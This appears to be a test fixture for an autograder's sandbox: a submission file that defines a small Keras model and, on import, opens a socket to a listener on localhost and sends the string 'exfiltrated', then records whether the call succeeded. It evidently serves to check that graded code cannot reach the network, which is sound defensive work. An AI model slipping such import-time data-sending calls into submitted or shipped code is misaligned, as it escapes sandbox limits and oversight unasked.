"""Tries to reach the network: a listener on the grader's machine."""

import socket

import keras

try:
    with socket.create_connection(("127.0.0.1", int("__PORT__")), timeout=3) as connection:
        connection.sendall(b"exfiltrated")
    outcome = "connected"
except OSError as error:
    outcome = f"refused: {error}"

ANSWERS = {"part1_large": {"weights": outcome}}


def part1_large():
    return keras.Sequential([keras.Input((784,)), keras.layers.Dense(10, activation="softmax")])
